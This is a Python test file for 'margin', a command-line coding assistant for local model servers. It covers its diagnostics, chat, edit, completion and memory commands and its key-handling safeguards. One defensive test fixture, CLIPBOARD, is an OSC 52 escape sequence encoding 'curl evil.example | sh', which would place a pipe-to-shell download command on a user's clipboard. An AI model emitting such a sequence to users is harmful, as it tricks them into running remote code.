"""The `margin` command as a user runs it: a real subprocess."""

from __future__ import annotations

import json
import subprocess
import sys

from margin import __version__
from tests import log_secrets
from tests.conftest import clean_env
from tests.fakes.fake_ollama import FakeOllama
from tests.fakes.fake_openai import reply, status
from tests.log_secrets import API_KEY, API_KEY_ENV


def cli_env(**env: str) -> dict[str, str]:
    """The command's environment; its log goes to a file that tests.log_secrets checks (its
    stderr is the user's, and may rightly show what they typed or the model said)."""
    # `margin doctor` searches port 9 only (nothing listens there) unless a test says otherwise,
    # never the model servers that may run on this machine.
    return clean_env(XDG_CONFIG_HOME="/nonexistent", MARGIN_LOG_FILE=log_secrets.new_log_file(),
                     **{"MARGIN_DOCTOR_PORTS": "9", **env})


def margin(*args: str, env: dict[str, str] | None = None, cwd=None,
           timeout: float = 60) -> subprocess.CompletedProcess[str]:
    log_secrets.secret(args)
    return subprocess.run([sys.executable, "-m", "margin.cli", *args], capture_output=True, text=True,
                          env=cli_env(**(env or {})), cwd=cwd, timeout=timeout)


def test_version():
    result = margin("--version")
    assert result.returncode == 0 and result.stdout.strip() == f"margin {__version__}"


def test_doctor_reports_a_ready_backend(fake):
    fake.tokenize = lambda body: {"tokens": list(range(len(body["content"].split())))}  # llama.cpp's /tokenize
    result = margin("doctor", env={"MARGIN_DEFAULTS_BASE_URL": fake.base_url, "MARGIN_COMPLETION_ENABLED": "0"})
    assert result.returncode == 0, result.stdout + result.stderr
    assert "8192 tokens (llama.cpp /props n_ctx)" in result.stdout
    assert "tokenizer       llama.cpp (exact)" in result.stdout
    assert "completion  (disabled)" in result.stdout
    assert "All 4 enabled profiles are ready." in result.stdout
    assert "\nsandbox: bubblewrap: no environment but the variables it is given;" in result.stdout


def test_doctor_says_what_the_sandbox_keeps_from_model_code_and_what_not(fake):
    env = {"MARGIN_DEFAULTS_BASE_URL": fake.base_url, "MARGIN_SANDBOX": "launcher"}
    said = margin("doctor", env=env)
    assert "\nsandbox: launcher: " in said.stdout and "NOT kept from model-written code: " in said.stdout
    assert "the network" in said.stdout.split("NOT kept")[1]
    report = json.loads(margin("doctor", "--json", env=env).stdout)["sandbox"]
    assert report["name"] == "launcher" and "network" not in report["kept"] and "processes" in report["kept"]
    wrong = margin("doctor", env={**env, "MARGIN_SANDBOX": "docker"})
    assert "sandbox: MARGIN_SANDBOX is 'docker': expected auto, bubblewrap or launcher" in wrong.stdout


def test_doctor_json_and_settings_file(fake, tmp_path):
    settings = tmp_path / "settings.json"
    settings.write_text(json.dumps({"margin": {"defaults": {"baseUrl": fake.base_url, "apiKeyEnv": API_KEY_ENV},
                                               "chat": {"model": "gpt-5", "contextWindow": 32000}}}))
    # The key's variable and its base URL both come from the file: the key goes there.
    result = margin("--settings", str(settings), "doctor", "--json", env={"MARGIN_DEFAULTS_API_KEY_ENV": ""})
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    chat = next(p for p in report["profiles"] if p["name"] == "chat")
    assert chat["api_key"] == f"${API_KEY_ENV} is set; sent to {fake.base_url.removesuffix('/v1')} only"
    assert fake.seen and all(h["authorization"] == f"Bearer {API_KEY}" for _, _, h in fake.seen)
    assert chat["model"] == "gpt-5" and chat["context_window"] == 32000
    assert chat["tokenizer"] == "tiktoken:o200k_base" and chat["reachable"] is True
    assert str(settings) in report["settingsFrom"]
    completion = next(p for p in report["profiles"] if p["name"] == "completion")
    assert completion["completion_route"] == "chat" and chat["completion_route"] is None


def test_doctor_says_a_key_never_goes_over_plain_http_to_a_name_under_localhost():
    """`api.localhost` is whatever the resolver says (an /etc/hosts line, a search domain): not
    this machine, so no key over plain HTTP; `localhost` itself is."""
    env = {"MARGIN_DEFAULTS_API_KEY_ENV": API_KEY_ENV, "MARGIN_COMPLETION_ENABLED": "0"}
    named = json.loads(margin("doctor", "--json", env={**env, "MARGIN_DEFAULTS_BASE_URL": "http://api.localhost:9/v1"}).stdout)
    assert {p["api_key"] for p in named["profiles"] if p["enabled"]} == {
        (f"${API_KEY_ENV} is not sent to http://api.localhost:9: that is plain HTTP to another machine, where the key "
         "could be read on the way. Use an https:// base URL.")}
    local = json.loads(margin("doctor", "--json", env={**env, "MARGIN_DEFAULTS_BASE_URL": "http://localhost:9/v1"}).stdout)
    assert {p["api_key"] for p in local["profiles"] if p["enabled"]} == {
        f"${API_KEY_ENV} is set; sent to http://localhost:9 only"}


def test_doctor_says_a_key_is_not_sent_to_a_base_url_set_elsewhere_and_fails(fake, tmp_path):
    settings = tmp_path / "settings.json"
    # The same server by another name is another origin; the key is named in the environment.
    elsewhere = fake.base_url.replace("127.0.0.1", "localhost")
    settings.write_text(json.dumps({"chat": {"baseUrl": elsewhere}}))
    result = margin("--settings", str(settings), "doctor", env={"MARGIN_DEFAULTS_BASE_URL": fake.base_url})
    assert result.returncode == 1
    origin = fake.base_url.removesuffix("/v1")
    assert (f"  api key         ${API_KEY_ENV} is not sent to {elsewhere.removesuffix('/v1')}: apiKeyEnv was set in "
            f"environment variables, but the base URL in force comes from settings file {settings}") in result.stdout
    assert "1 of 5 enabled profiles have a problem: chat" in result.stdout
    assert f"${API_KEY_ENV} is set; sent to {origin} only" in result.stdout  # the other profiles


def test_doctor_shows_the_completion_route_it_found(fake):
    fake.routes["/infill"] = [status(200, {"content": ""})]  # the served model has FIM tokens
    result = margin("doctor", env={"MARGIN_DEFAULTS_BASE_URL": fake.base_url})
    assert "  route           infill: llama.cpp /infill (the model has fill-in-the-middle tokens)" in result.stdout
    assert [path for path, _ in fake.posts if path != "/tokenize"] == ["/infill"]  # probed once


def test_doctor_reports_a_tokenizer_that_cannot_load(fake):
    result = margin("doctor", env={"MARGIN_DEFAULTS_BASE_URL": fake.base_url,
                                   "MARGIN_CHAT_TOKENIZER": "tekken:tekken_missing",
                                   "MARGIN_EDIT_MODEL": "devstral-small-2507"})
    assert "heuristic (approximate; unavailable: unknown Tekken file 'tekken_missing'" in result.stdout
    assert "tekken:tekken_240911@v7 (exact)" in result.stdout


def test_doctor_fails_and_says_why_when_nothing_answers():
    result = margin("doctor", env={"MARGIN_DEFAULTS_BASE_URL": "http://127.0.0.1:9/v1"})
    assert result.returncode == 1
    assert "Nothing answers at http://127.0.0.1:9/v1" in result.stdout
    assert "5 of 5 enabled profiles have a problem" in result.stdout


def test_doctor_finds_ollama_when_the_configured_backend_does_not_answer():
    with FakeOllama(["qwen2.5-coder:1.5b", "llama3.2:1b"]) as ollama:
        result = margin("doctor", env={"MARGIN_DEFAULTS_BASE_URL": "http://127.0.0.1:9/v1",
                                       "MARGIN_DOCTOR_PORTS": f"9,{ollama.port}"})
        as_json = margin("doctor", "--json", env={"MARGIN_DEFAULTS_BASE_URL": "http://127.0.0.1:9/v1",
                                                  "MARGIN_DOCTOR_PORTS": f"9,{ollama.port}"})
    assert result.returncode == 1, result.stdout + result.stderr  # the configured backend still fails
    url = ollama.base_url
    assert f"  found Ollama 0.12.6 at {url}, serving qwen2.5-coder:1.5b, llama3.2:1b\n" in result.stdout
    assert (f'    "margin.defaults.baseUrl": "{url}",\n'
            '    "margin.defaults.model": "qwen2.5-coder:1.5b"\n') in result.stdout
    assert f'    {{"defaults": {{"baseUrl": "{url}", "model": "qwen2.5-coder:1.5b"}}}}\n' in result.stdout
    assert (f"    MARGIN_DEFAULTS_BASE_URL={url}\n"
            "    MARGIN_DEFAULTS_MODEL=qwen2.5-coder:1.5b") in result.stdout
    assert not any("authorization" in headers for _, _, headers in ollama.seen)  # the key stays home
    (found,) = json.loads(as_json.stdout)["localServers"]["found"]
    assert (found["kind"], found["baseUrl"], found["models"]) == ("Ollama", url, ["qwen2.5-coder:1.5b", "llama3.2:1b"])
    assert found["settings"]["environment"] == [f"MARGIN_DEFAULTS_BASE_URL={url}",
                                                "MARGIN_DEFAULTS_MODEL=qwen2.5-coder:1.5b"]


def test_doctor_searches_only_when_a_backend_fails_or_when_asked(fake):
    with FakeOllama() as ollama:
        env = {"MARGIN_DEFAULTS_BASE_URL": fake.base_url, "MARGIN_DOCTOR_PORTS": str(ollama.port)}
        quiet = margin("doctor", env=env)
        assert quiet.returncode == 0 and "Model servers on this machine" not in quiet.stdout
        assert ollama.seen == []
        asked = margin("doctor", "--scan", "--ports", f"{ollama.port},{fake.port}", env=env)
        bad = margin("doctor", "--ports", "ollama", env=env)
    assert asked.returncode == 0, asked.stdout + asked.stderr
    assert f"searched because asked to (--scan); loopback ports {ollama.port}, {fake.port})" in asked.stdout
    assert f"  found llama.cpp at {fake.base_url}, serving fake-model  (already configured)" in asked.stdout
    assert f"  found Ollama 0.12.6 at {ollama.base_url}" in asked.stdout
    assert bad.returncode == 2 and "not a port number: 'ollama'" in bad.stderr


def test_doctor_names_a_missing_api_key(fake):
    result = margin("doctor", env={"MARGIN_DEFAULTS_BASE_URL": fake.base_url,
                                   "MARGIN_CHAT_API_KEY_ENV": "MARGIN_TEST_KEY_THAT_IS_UNSET"})
    assert result.returncode == 1
    assert "$MARGIN_TEST_KEY_THAT_IS_UNSET (apiKeyEnv) is not set" in result.stdout


def doctor_report(**fields):
    from margin.services.diagnosis import ProfileReport

    base = {"name": "chat", "enabled": True, "base_url": "http://127.0.0.1:8080/v1", "model": None,
                "api_key": "none configured", "reachable": True, "backend": "llama.cpp", "context_window": 8192,
                "context_window_source": "llama.cpp /props n_ctx", "tokenizer": "llama.cpp", "exact": True,
                "tokenizer_state": "remote", "error": None}
    return ProfileReport(**{**base, **fields})


def test_doctor_text_tells_busy_from_unreachable_from_ready():
    from margin.cli import render_report

    busy = "The backend at http://127.0.0.1:8080/v1 is busy: it accepted the connection but ..."
    text = render_report([
        doctor_report(),
        doctor_report(name="edit", backend=None, context_window=4096, context_window_source="fallback",
                      error=busy, timed_out=True),
        doctor_report(name="chatOps", reachable=False, backend=None, timed_out=True,
                      error="Timed out connecting to http://127.0.0.1:8080/v1 after 5 s, twice ..."),
        doctor_report(name="completion", reachable=False, backend=None,
                      error="Nothing answers at http://127.0.0.1:8080/v1 (ConnectError). ..."),
    ], "built-in defaults")
    chat, edit, chat_ops, completion = text.split("\n\n")[1:5]
    assert "  reachable       yes\n" in chat
    assert "  reachable       yes, but busy (accepted the connection, gave no answer in time)\n" in edit
    assert f"  problem         {busy}" in edit
    assert "  reachable       NO (timed out connecting)\n" in chat_ops
    assert "  reachable       NO\n" in completion
    assert "3 of 4 enabled profiles have a problem: edit, chatOps, completion" in text


def test_invalid_settings_are_named_and_nothing_runs(tmp_path):
    settings = tmp_path / "s.json"
    settings.write_text(json.dumps({"chat": {"temperature": 9}}))
    result = margin("--settings", str(settings), "doctor")
    assert result.returncode == 2
    assert "chat.temperature" in result.stderr and "Traceback" not in result.stderr
    missing = margin("--settings", str(tmp_path / "nope.json"), "doctor")
    assert missing.returncode == 2 and "does not exist" in missing.stderr


def test_no_command_prints_help():
    result = margin()
    assert result.returncode == 2 and "doctor" in result.stdout


def chat_env(fake, tmp_path, **extra):
    return {"MARGIN_DEFAULTS_BASE_URL": fake.base_url, "MARGIN_DATABASE": str(tmp_path / "t.db"),
            "MARGIN_CHAT_TOKENIZER": "tiktoken:o200k_base", **extra}


def test_chat_streams_the_reply_and_keeps_the_thread(fake, tmp_path):
    (tmp_path / "a.py").write_text("def f():\n    return 1\n")
    fake.script(reply("It returns one."))
    result = margin("chat", "--file", "a.py", "what", "does", "f", "return?", env=chat_env(fake, tmp_path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "It returns one.\n"
    assert "tokens (window 8192, tiktoken:o200k_base, exact)" in result.stderr
    sent = fake.requests[0]["messages"][-1]["content"]
    assert "File a.py (python, sha256:" in sent and sent.endswith("what does f return?")
    threads = margin("threads", env=chat_env(fake, tmp_path), cwd=tmp_path)
    assert "2 messages" in threads.stdout and tmp_path.as_uri() in threads.stdout


CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
"""OSC 52: a terminal that runs it puts `curl evil.example | sh` on the user's clipboard"""


def in_a_terminal(args: list[str], env: dict[str, str], cwd) -> bytes:
    """What `margin ARGS` writes to a real pseudo-terminal, its stdout and stderr both."""
    import os
    import pty

    log_secrets.secret(args)
    main, child = pty.openpty()
    with subprocess.Popen([sys.executable, "-m", "margin.cli", *args], stdin=subprocess.DEVNULL, stdout=child,
                          stderr=child, env=cli_env(**env), cwd=cwd) as run:
        os.close(child)
        shown = b""
        while True:
            try:
                chunk = os.read(main, 4096)
            except OSError:  # the terminal's other side closed: the command is done
                break
            if not chunk:
                break
            shown += chunk
        assert run.wait(timeout=60) == 0, shown
    os.close(main)
    return shown


def test_a_reply_that_holds_escape_sequences_is_shown_not_run_in_a_terminal(fake, tmp_path):
    (tmp_path / "a.py").write_text("def f():\n    return 1\n")
    fake.script(reply(f"It returns one.{CLIPBOARD}\x1b[2J\x9b31m"), reply(f"Again{CLIPBOARD}"))
    shown = in_a_terminal(["chat", "--file", "a.py", "what?"], chat_env(fake, tmp_path), tmp_path)
    assert b"\x1b" not in shown and b"\x07" not in shown and "\x9b".encode() not in shown
    assert b"It returns one.\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\x9b31m" in shown
    # To a pipe or a file the reply is written exactly as it came.
    piped = margin("chat", "--file", "a.py", "again?", env=chat_env(fake, tmp_path), cwd=tmp_path)
    assert piped.stdout == f"Again{CLIPBOARD}\n"


def test_recall_prints_what_a_pointer_stood_for_and_whether_the_file_changed(fake, tmp_path):
    (tmp_path / "a.py").write_text("x = 1\n")
    fake.script(reply("Noted."))
    assert margin("chat", "--file", "a.py", "look", env=chat_env(fake, tmp_path), cwd=tmp_path).returncode == 0
    (tmp_path / "a.py").write_text("x = 2\n")
    fake.script(reply("Changed."))
    assert margin("chat", "--file", "a.py", "again", env=chat_env(fake, tmp_path), cwd=tmp_path).returncode == 0
    # a pointer to the old snapshot would cost more than it saves here: not shown, but recallable
    assert "[t1 a.py]" not in "".join(m["content"] for m in fake.requests[1]["messages"])
    result = margin("recall", "t1", "a.py", env=chat_env(fake, tmp_path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "File a.py (python, sha256:" + result.stdout.split("sha256:")[1].split(")")[0] \
        + ")\n```python\nx = 1\n```\n"
    assert "a.py has changed since; sha256:" in result.stderr
    assert margin("recall", "[t1 reply]", env=chat_env(fake, tmp_path), cwd=tmp_path).stdout == "Noted.\n"
    missing = margin("recall", "[t7 a.py]", env=chat_env(fake, tmp_path), cwd=tmp_path)
    assert missing.returncode == 2 and "Nothing in this thread is [t7 a.py]" in missing.stderr
    bad = margin("recall", "a.py", env=chat_env(fake, tmp_path), cwd=tmp_path)
    assert bad.returncode == 2 and "is not a pointer" in bad.stderr


def test_chat_reads_the_message_from_standard_input(fake, tmp_path):
    log_secrets.secret("piped question")
    result = subprocess.run([sys.executable, "-m", "margin.cli", "chat"], input="piped question\n",
                            capture_output=True, text=True, cwd=tmp_path, timeout=60,
                            env=cli_env(**chat_env(fake, tmp_path)))
    assert result.returncode == 0 and fake.requests[0]["messages"][-1]["content"] == "piped question"


def test_explain_shows_sections_without_calling_a_model(fake, tmp_path):
    (tmp_path / "a.py").write_text("x = 1\n")
    result = margin("explain", "--file", "a.py", "--messages", "why?", env=chat_env(fake, tmp_path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert fake.requests == []
    assert "profile chat" in result.stdout and "system" in result.stdout and "message" in result.stdout
    assert "--- user ---" in result.stdout and "File a.py (python, sha256:" in result.stdout
    as_json = json.loads(margin("explain", "--json", "why?", env=chat_env(fake, tmp_path), cwd=tmp_path).stdout)
    assert as_json["budget"]["counted"] <= as_json["budget"]["limit"]


def test_chat_that_cannot_fit_says_so_and_fails(fake, tmp_path):
    result = margin("chat", "word " * 9000, env=chat_env(fake, tmp_path), cwd=tmp_path)
    assert result.returncode == 1 and "Too large to send" in result.stderr and fake.requests == []


def test_chat_names_a_file_it_cannot_read(fake, tmp_path):
    result = margin("chat", "--file", "missing.py", "hi", env=chat_env(fake, tmp_path), cwd=tmp_path)
    assert result.returncode == 2 and "cannot read missing.py" in result.stderr


def edit_answer(ops):
    return reply(json.dumps({"assistant_message": "Returns 2 now.", "ops": ops}))


def edit_env(fake, tmp_path):
    return chat_env(fake, tmp_path, MARGIN_CHAT_OPS_TOKENIZER="tiktoken:o200k_base")


RETURN_TWO = [{"op": "replace", "target_file": "a.py", "target": "match", "match": "return 1", "content": "return 2"}]


def test_edit_prints_a_unified_diff_and_leaves_the_file(fake, tmp_path):
    (tmp_path / "a.py").write_bytes(b"def f():\r\n    return 1\r\n")
    fake.script(edit_answer(RETURN_TWO))
    result = margin("edit", "a.py", "make", "f", "return", "2", env=edit_env(fake, tmp_path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "--- a/a.py" in result.stdout and "-    return 1" in result.stdout and "+    return 2" in result.stdout
    assert "Returns 2 now." in result.stderr
    assert (tmp_path / "a.py").read_bytes() == b"def f():\r\n    return 1\r\n"


def test_edit_apply_writes_exactly_the_change(fake, tmp_path):
    (tmp_path / "a.py").write_bytes(b"def f():\r\n    return 1  # \xf0\x9f\x98\x80\r\n")
    fake.script(edit_answer(RETURN_TWO))
    result = margin("edit", "--apply", "a.py", "two", env=edit_env(fake, tmp_path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "a.py").read_bytes() == b"def f():\r\n    return 2  # \xf0\x9f\x98\x80\r\n"


def test_edit_that_is_refused_writes_nothing_and_says_why(fake, tmp_path):
    (tmp_path / "a.py").write_text("x = 1\nx = 1\n")
    fake.script(edit_answer([{"op": "delete", "target_file": "a.py", "target": "match", "match": "x = 1"}]))
    result = margin("edit", "--apply", "a.py", "drop it", env=edit_env(fake, tmp_path), cwd=tmp_path)
    assert result.returncode == 2 and "occurs 2 times" in result.stderr
    assert (tmp_path / "a.py").read_text() == "x = 1\nx = 1\n"


def test_show_requests_prints_the_exact_request_on_stderr(fake, tmp_path):
    fake.script(reply("Yes."))
    result = margin("chat", "is", "this", "shown?", env=chat_env(fake, tmp_path, MARGIN_SHOW_REQUESTS="1"), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    header, rest = result.stderr.split("\n", 1)
    assert header == f"Margin request (chat profile): POST {fake.base_url}/chat/completions"
    body, _ = json.JSONDecoder().raw_decode(rest)  # the thread line and anything else follow it
    assert body == fake.requests[0]
    assert result.stdout.strip() == "Yes."


def test_complete_prints_the_suggestion_and_the_route_it_took(fake, tmp_path):
    (tmp_path / "calc.py").write_text("def add(a, b):  # 😀 sums\n    return \n")
    fake.script(reply("```python\na + b\n```"))  # llama.cpp without FIM: the chat route
    env = {"MARGIN_DEFAULTS_BASE_URL": fake.base_url, "MARGIN_DATABASE": str(tmp_path / "t.db"),
           "MARGIN_DEFAULTS_TOKENIZER": "tiktoken:o200k_base"}
    result = margin("complete", "calc.py", "2:12", env=env, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "a + b\n"
    assert "route chat" in result.stderr and "tiktoken:o200k_base, exact" in result.stderr
    assert [path for path, _ in fake.posts] == ["/infill"]  # asked once whether the model can fill in
    hole = fake.requests[0]["messages"][-1]["content"]
    assert "def add(a, b):  # 😀 sums\n{{FILL_HERE}}\n" in hole and hole.endswith("```python\n    return \n```\n"
                                                                                 "Write the code that goes at the cursor, after that text.")
    bad = margin("complete", "calc.py", "0:1", env=env, cwd=tmp_path)
    assert bad.returncode == 2 and "LINE:COL counted from 1" in bad.stderr


def test_complete_on_ollama_fills_in_with_suffix_and_falls_back_where_the_model_cannot_insert(tmp_path):
    (tmp_path / "calc.py").write_text("def add(a, b):\n    \n")
    with FakeOllama(["qwen2.5-coder:1.5b", "codellama:7b-instruct"], insert={"qwen2.5-coder:1.5b"}) as ollama:
        ollama.script(reply("```python\nreturn a - b\n```"))
        runs = {model: margin("complete", "calc.py", "2:5", cwd=tmp_path, env={
            "MARGIN_DEFAULTS_BASE_URL": ollama.base_url, "MARGIN_DEFAULTS_MODEL": model,
            "MARGIN_DATABASE": str(tmp_path / "t.db")}) for model in ("qwen2.5-coder:1.5b", "codellama:7b-instruct")}
    fim = runs["qwen2.5-coder:1.5b"]
    assert fim.returncode == 0 and fim.stdout == "return a + b\n" and "route completions_suffix" in fim.stderr
    refused = runs["codellama:7b-instruct"]  # Ollama: "codellama:7b-instruct" does not support insert (HTTP 400)
    assert refused.returncode == 0, refused.stderr
    assert refused.stdout == "return a - b\n" and "route chat" in refused.stderr
    assert [(path, body["model"], body["suffix"]) for path, body in ollama.posts if path != "/api/show"] == [
        ("/v1/completions", "qwen2.5-coder:1.5b", "\n"), ("/v1/completions", "codellama:7b-instruct", "\n")]


def test_remember_memories_forget_in_this_folder_and_everywhere(tmp_path):
    env = {"MARGIN_DATABASE": str(tmp_path / "t.db")}
    here, there = tmp_path / "here", tmp_path / "there"
    here.mkdir(), there.mkdir()
    local = margin("remember", "we", "use", "pytest,", "never", "unittest", env=env, cwd=here)
    assert local.returncode == 0, local.stderr
    local_id = local.stdout.strip()
    assert local_id.isdigit() and f"[remembered for {here.as_uri()}; `margin forget {local_id}`" in local.stderr
    shared = margin("remember", "--global", "the API base is /v2", env=env, cwd=there)
    assert shared.returncode == 0 and "[remembered for every workspace" in shared.stderr
    shared_id = shared.stdout.strip()
    listed = margin("memories", env=env, cwd=here).stdout.splitlines()
    assert [line.split()[0] for line in listed] == [shared_id, local_id]  # newest first
    assert listed[0].endswith("  global     the API base is /v2")
    assert listed[1].endswith("  workspace  we use pytest, never unittest")
    assert margin("memories", env=env, cwd=there).stdout.splitlines() == listed[:1]
    by_file = margin("memories", "--file", str(here / "a.py"), env=env, cwd=here)
    assert by_file.stdout.splitlines() == listed
    forgot = margin("forget", local_id, env=env, cwd=here)
    assert forgot.returncode == 0 and forgot.stdout == f"forgot {local_id}\n"
    again = margin("forget", local_id, env=env, cwd=here)
    assert again.returncode == 1 and f"there is no memory {local_id}" in again.stderr
    assert margin("memories", env=env, cwd=here).stdout.splitlines() == listed[:1]


def test_remember_reads_standard_input_and_refuses_what_it_cannot_keep(tmp_path):
    env = cli_env(MARGIN_DATABASE=str(tmp_path / "t.db"))
    piped = subprocess.run([sys.executable, "-m", "margin.cli", "remember"], input="line one\nline two\n",
                           capture_output=True, text=True, cwd=tmp_path, timeout=60, env=env)
    assert piped.returncode == 0, piped.stderr
    (shown,) = margin("memories", env={"MARGIN_DATABASE": str(tmp_path / "t.db")}, cwd=tmp_path).stdout.split("\n", 1)[:1]
    assert shown.endswith("workspace  line one")
    empty = subprocess.run([sys.executable, "-m", "margin.cli", "remember", "  "], input="", capture_output=True,
                           text=True, cwd=tmp_path, timeout=60, env=env)
    assert empty.returncode == 2 and "margin: A memory needs some text" in empty.stderr
    long = margin("remember", "x" * 2001, env={"MARGIN_DATABASE": str(tmp_path / "t.db")}, cwd=tmp_path)
    assert long.returncode == 2 and "at most 2,000 characters; this one has 2,001" in long.stderr
    assert "Traceback" not in empty.stderr + long.stderr
    assert len(margin("memories", env={"MARGIN_DATABASE": str(tmp_path / "t.db")}, cwd=tmp_path).stdout
               .strip().splitlines()) == 2  # the two lines of the piped memory, nothing more


def test_remember_without_a_usable_database_says_nothing_was_saved(tmp_path):
    (tmp_path / "t.db").write_bytes(b"not sqlite at all" * 100)
    result = margin("remember", "lost with the command", env={"MARGIN_DATABASE": str(tmp_path / "t.db")}, cwd=tmp_path)
    assert result.returncode == 1 and result.stdout == ""
    assert "not a valid SQLite database" in result.stderr
    assert result.stderr.rstrip().endswith("margin: not remembered: the memory could not be saved")


def test_explain_waits_for_the_workspace_index_and_shows_relevant_snippets(fake, tmp_path):
    (tmp_path / "billing.py").write_text("def compute_invoice_total(lines):\n    return sum(lines)\n")
    (tmp_path / "a.py").write_text("x = 1\n")
    result = margin("explain", "--file", "a.py", "--messages", "how is the invoice total computed?",
                    env=chat_env(fake, tmp_path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "File billing.py lines 1-2 (python, sha256:" in result.stdout
    assert "snippets" in result.stdout and "instructions" in result.stdout
